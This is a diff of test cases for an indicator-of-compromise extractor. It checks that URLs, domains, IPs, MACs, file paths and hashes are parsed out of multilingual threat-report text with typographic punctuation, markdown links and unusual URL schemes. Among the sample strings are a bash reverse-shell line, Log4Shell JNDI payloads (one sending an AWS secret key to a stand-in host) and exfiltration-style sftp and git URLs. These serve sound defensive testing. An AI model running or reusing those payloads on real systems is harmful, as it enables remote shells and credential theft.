@@ -342,6 +342,209 @@ CASES: list[Case] = [
         '10.0.0.1 - - [10/Oct/2023:13:55:36 -0700] "GET /a/b.php HTTP/1.1" 200 2326',
         ipv4="10.0.0.1",
     ),
+    # ---------------------------------------------------------------- typographic punctuation
+    # Reports pasted from word processors: curly quotes, guillemets, dashes, ellipses.
+    C(
+        "The loader fetched “https://cdn-update.net/stage2.bin” before reboot.",
+        url="https://cdn-update.net/stage2.bin",
+        dns="cdn-update.net",
+    ),
+    C("Beacon host: “http://185.220.101.47”.", url="http://185.220.101.47", ipv4="185.220.101.47"),
+    C(
+        "the actor’s domain ‘telemetry-sync.com’ resolved to 91.92.240.1’s block",
+        dns="telemetry-sync.com",
+        ipv4="91.92.240.1",
+    ),
+    C(
+        "Le serveur «http://mise-a-jour.fr/p.php» hébergeait la charge",
+        url="http://mise-a-jour.fr/p.php",
+        dns="mise-a-jour.fr",
+    ),
+    C(
+        "Downloads from http://evil-cdn.org/a…",
+        url="http://evil-cdn.org/a",
+        dns="evil-cdn.org",
+    ),
+    C(
+        "C2—http://c2.badhost.io:8443/gate—was sinkholed",
+        url="http://c2.badhost.io:8443/gate",
+        dns="c2.badhost.io",
+    ),
+    C("fallback domains: alpha-c2.net–beta-c2.net", dns=["alpha-c2.net", "beta-c2.net"]),
+    C(
+        "攻击者使用http://update.example-cn.com/x.exe。随后连接",
+        url="http://update.example-cn.com/x.exe",
+        dns="update.example-cn.com",
+    ),
+    C(
+        "回连地址：45.137.21.9，端口4444、域名evil-cn.net。",
+        ipv4="45.137.21.9",
+        dns="evil-cn.net",
+    ),
+    C(
+        "Der Link „https://rechnung-portal.de/inv“ führte zum Phishing",
+        url="https://rechnung-portal.de/inv",
+        dns="rechnung-portal.de",
+    ),
+    C(
+        "dropped “C:\\Users\\Public\\svc.exe” and ‘/tmp/.x/kworker’",
+        windows_path="C:\\Users\\Public\\svc.exe",
+        linux_path="/tmp/.x/kworker",
+    ),
+    C("«ops@phish-kit.com» sent the lure", email="ops@phish-kit.com", dns="phish-kit.com"),
+    C("Hash “d41d8cd98f00b204e9800998ecf8427e”…", md5="d41d8cd98f00b204e9800998ecf8427e"),
+    C("She said “it’s fine” — nothing else…"),
+    # ---------------------------------------------------------------- markdown / wiki links
+    C(
+        "See [the dropper](https://files.evil-share.com/d.zip) for details.",
+        url="https://files.evil-share.com/d.zip",
+        dns="files.evil-share.com",
+    ),
+    C(
+        "- [https://login-micros0ft.com/auth](https://login-micros0ft.com/auth)",
+        url="https://login-micros0ft.com/auth",
+        dns="login-micros0ft.com",
+    ),
+    C(
+        "[http://phish.example.net](http://phish.example.net)",
+        url="http://phish.example.net",
+        dns="phish.example.net",
+    ),
+    C(
+        "Autolink <https://paste-bin.xyz/raw/Ab12> in the README",
+        url="https://paste-bin.xyz/raw/Ab12",
+        dns="paste-bin.xyz",
+    ),
+    C(
+        "wiki note: [[https://intel.badactor.org/report]] (archived)",
+        url="https://intel.badactor.org/report",
+        dns="intel.badactor.org",
+    ),
+    C(
+        "(mirror: [here](http://mirror.badactor.org/a/b))",
+        url="http://mirror.badactor.org/a/b",
+        dns="mirror.badactor.org",
+    ),
+    C(
+        "![screenshot](https://img.evil-cdn.org/s.png)",
+        url="https://img.evil-cdn.org/s.png",
+        dns="img.evil-cdn.org",
+    ),
+    C(
+        "forum post: [url=http://free-keys.evil.ws/get]free keys[/url]",
+        url="http://free-keys.evil.ws/get",
+        dns="free-keys.evil.ws",
+    ),
+    C(
+        "[url]https://warez-drop.net/crack.rar[/url] [IMG]http://i.warez-drop.net/a.png[/IMG]",
+        url=["https://warez-drop.net/crack.rar", "http://i.warez-drop.net/a.png"],
+        dns=["warez-drop.net", "i.warez-drop.net"],
+    ),
+    C(
+        "PHP arrays stay: http://shop-evil.com/cart?id[]=1&f[x]=2",
+        url="http://shop-evil.com/cart?id[]=1&f[x]=2",
+        dns="shop-evil.com",
+    ),
+    C(
+        "¿Visitó http://premio-falso.es/ganar? ¡http://premio-falso.es/ya!",
+        url=["http://premio-falso.es/ganar", "http://premio-falso.es/ya"],
+        dns="premio-falso.es",
+    ),
+    # ---------------------------------------------------------------- cisco MAC
+    C("show mac address-table: 0050.56c0.0001 DYNAMIC Gi1/0/3", mac="0050.56c0.0001"),
+    C("arp entry 10.1.1.20 -> AABB.CCDD.EEFF on Vlan10", ipv4="10.1.1.20", mac="aabb.ccdd.eeff"),
+    C("firmware build 2021.0415.1200 deployed"),
+    C(
+        "Internet  10.20.1.5   12   001a.2b3c.4d5e  ARPA   Vlan20. Next: 001A.2B3C.4D5F.",
+        ipv4="10.20.1.5",
+        mac=["001a.2b3c.4d5e", "001a.2b3c.4d5f"],
+    ),
+    C("the host 0050.56c0.0001.example is not a MAC"),
+    # ---------------------------------------------------------------- non-web URL schemes
+    C(
+        "User-Agent: ${jndi:ldap://198.51.100.7:1389/a}",
+        url="ldap://198.51.100.7:1389/a",
+        ipv4="198.51.100.7",
+    ),
+    C(
+        "X-Api-Version: ${jndi:rmi://log4j-c2.net:1099/Exploit}",
+        url="rmi://log4j-c2.net:1099/Exploit",
+        dns="log4j-c2.net",
+    ),
+    C(
+        "${jndi:dns://probe.oast-callback.com/x} ${jndi:LDAPS://203.0.113.9/o}",
+        url=["dns://probe.oast-callback.com/x", "ldaps://203.0.113.9/o"],
+        dns="probe.oast-callback.com",
+        ipv4="203.0.113.9",
+    ),
+    C(
+        "net use from smb://fileserver.corp-evil.com/share and iiop://203.0.113.10:900/x",
+        url=["smb://fileserver.corp-evil.com/share", "iiop://203.0.113.10:900/x"],
+        dns="fileserver.corp-evil.com",
+        ipv4="203.0.113.10",
+    ),
+    C(
+        "ncat relay tcp://45.137.21.9:4444 udp://45.137.21.10:53",
+        url=["tcp://45.137.21.9:4444", "udp://45.137.21.10:53"],
+        ipv4=["45.137.21.9", "45.137.21.10"],
+    ),
+    C(
+        "exfil via sftp://drop@exfil-host.net:2222/in and ssh://root@203.0.113.11",
+        url=["sftp://drop@exfil-host.net:2222/in", "ssh://root@203.0.113.11"],
+        dns="exfil-host.net",
+        ipv4="203.0.113.11",
+    ),
+    C(
+        "open telnet://198.51.100.20, rdp://jump.badcorp.io and vnc://198.51.100.21:5901",
+        url=["telnet://198.51.100.20", "rdp://jump.badcorp.io", "vnc://198.51.100.21:5901"],
+        ipv4=["198.51.100.20", "198.51.100.21"],
+        dns="jump.badcorp.io",
+    ),
+    C(
+        "bot joins irc://irc.botnet-chat.net:6667/#ops and clones git://git.evil-repo.org/x.git",
+        url=["irc://irc.botnet-chat.net:6667/#ops", "git://git.evil-repo.org/x.git"],
+        dns=["irc.botnet-chat.net", "git.evil-repo.org"],
+    ),
+    C(
+        "aws s3 cp s3://stolen-data-bucket/dump.tar.gz . ; file:///etc/shadow opened",
+        url=["s3://stolen-data-bucket/dump.tar.gz", "file:///etc/shadow"],
+    ),
+    C(
+        "lure pointed to FILE://203.0.113.12/share/invoice.lnk",
+        url="file://203.0.113.12/share/invoice.lnk",
+        ipv4="203.0.113.12",
+    ),
+    C(
+        "pushes to git+ssh://git@code-exfil.net/loot.git",
+        url="git+ssh://git@code-exfil.net/loot.git",
+        dns="code-exfil.net",
+    ),
+    C("the text ldap:// alone, or tcp:// with nothing after"),
+    # ---------------------------------------------------------------- ipv4 leading zeros
+    C(
+        "copy to \\\\010.020.030.040\\c$\\x.exe",
+        ipv4="10.20.30.40",
+        windows_path="\\\\010.020.030.040\\c$\\x.exe",
+    ),
+    C(
+        "bash -i >& /dev/tcp/045.137.021.009/4444",
+        ipv4="45.137.21.9",
+        linux_path="/dev/tcp/045.137.021.009/4444",
+    ),
+    C("octet 0177.0.0.1 has four digits: not an address"),
+    C(
+        "mapped ::ffff:010.001.002.003 in the proxy log",
+        ipv6="::ffff:10.1.2.3",
+        ipv4="10.1.2.3",
+    ),
+    C(
+        "X-Forwarded-For: ${jndi:ldap://log4j-c2.net:1389/${env:AWS_SECRET_ACCESS_KEY}}",
+        url="ldap://log4j-c2.net:1389/",
+        dns="log4j-c2.net",
+    ),
+    C("ping 010.001.002.003 (octal-looking)", ipv4="10.1.2.3"),
+    C("src=192.168.001.010 dst=008.008.008.008", ipv4=["192.168.1.10", "8.8.8.8"]),
+    C("hxxp://045.137.021.009/a", url="http://045.137.021.009/a", ipv4="45.137.21.9"),
 ]
 
 
@@ -357,6 +560,13 @@ _SURROUNDINGS = [
     "<{x}>",
     "IOC={x};",
     "**{x}**",
+    "“{x}”",
+    "‘{x}’",
+    "«{x}»",
+    "„{x}“",
+    "Seen {x}… then",
+    "{x} — blocked",
+    "指标：{x}。",
 ]
 _INDICATORS: list[tuple[str, dict[str, str]]] = [
     ("203.0.113.45", {"ipv4": "203.0.113.45"}),
